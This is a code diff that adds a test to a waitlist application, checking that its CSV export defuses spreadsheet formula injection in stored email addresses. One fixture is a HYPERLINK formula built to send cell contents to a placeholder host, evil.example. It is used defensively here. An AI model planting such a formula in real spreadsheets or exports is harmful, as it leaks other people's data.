@@ -4,11 +4,14 @@
  * the export; one-click unsubscribe; the delete link; and every refusal.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { freePort, startAppServer, type AppServer } from "../support/app-server";
+import { parseEnv } from "~/lib/server/parse-env.server";
+import { openStorage } from "~/lib/storage/open-storage.server";
+import { freePort, ROOT, startAppServer, type AppServer } from "../support/app-server";
 import { startSmtpServer, type SmtpServer } from "../support/smtp-server";
 import {
   DATABASE_KINDS,
   exportWaitlist,
+  exportWaitlistCsv,
   linksIn,
   mailsMentioning,
   mailsTo,
@@ -300,6 +303,47 @@ describe.each(DATABASE_KINDS)("the waitlist on the %s database", (kind) => {
     await mailsTo(smtp, "vecina@example.com");
     expect(smtp.mails().filter((mail) => mail.to === "familia-31@example.com")).toEqual([]);
     expect((await exportWaitlist(database.env)).map((row) => row.email)).not.toContain("familia-31@example.com");
+  });
+
+  it("exports an address that looks like a formula as text: npm run waitlist:export neutralises =, +, -, @, tab and CR", async () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?"&A2&A3&"@x.y","Ver")',
+      "+1@example.com",
+      "-1@example.com",
+      "@formula@example.com",
+      "\tfirst@example.com",
+      "\rsecond@example.com",
+    ];
+    // Rows stored before the address parser refused such text: the export must still be safe to open.
+    const storage = await openStorage(parseEnv(database.env, ROOT).database);
+    try {
+      const now = Date.now();
+      await storage.db
+        .insertInto("waitlist")
+        .values(
+          hostile.map((email, index) => ({
+            email,
+            status: "pending" as const,
+            token: `formula-${index}`,
+            subscribed_at: now,
+            confirmed_at: null,
+            unsubscribed_at: null,
+            confirm_expires_at: now + 24 * 60 * 60 * 1000,
+            last_mail_at: now,
+          })),
+        )
+        .execute();
+    } finally {
+      await storage.db.destroy();
+    }
+    const csv = await exportWaitlistCsv(database.env);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2&A3&""@x.y"",""Ver"")",pending,`);
+    const exported = (await exportWaitlist(database.env)).map((row) => row.email);
+    for (const email of hostile) expect(exported).toContain(`'${email}`);
+    // No cell of the file starts a formula.
+    for (const line of csv.split("\n")) {
+      for (const cell of line.split(",")) expect(cell, line).not.toMatch(/^["]?[=+\-@\t\r]/);
+    }
   });
 
   it("keeps sign-ups across a restart: a link mailed before it still confirms after", async () => {
